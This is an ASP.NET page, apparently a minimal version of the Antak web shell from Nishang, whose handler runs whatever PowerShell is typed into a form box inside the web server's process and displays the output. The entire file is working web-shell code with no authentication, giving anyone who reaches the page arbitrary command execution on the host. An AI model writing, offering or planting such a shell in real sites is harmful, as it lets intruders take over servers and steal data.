<%@ Page Language="C#" %>
<%@ Import Namespace="System.Management.Automation" %>
<%@ Import Namespace="System.Management.Automation.Runspaces" %>
<script runat="server">
// A console that runs PowerShell inside the worker process (the design Nishang's Antak describes).
protected void Execute(object sender, EventArgs e)
{
    Runspace rs = RunspaceFactory.CreateRunspace();
    rs.Open();
    Pipeline pipe = rs.CreatePipeline();
    pipe.Commands.AddScript(console.Text);
    pipe.Commands.Add("Out-String");
    foreach (PSObject line in pipe.Invoke()) { output.Text += line.ToString(); }
    rs.Close();
}
</script>
<form runat="server"><asp:TextBox ID="console" TextMode="MultiLine" runat="server" />
<asp:Button runat="server" Text="Submit" OnClick="Execute" /><asp:Label ID="output" runat="server" /></form>
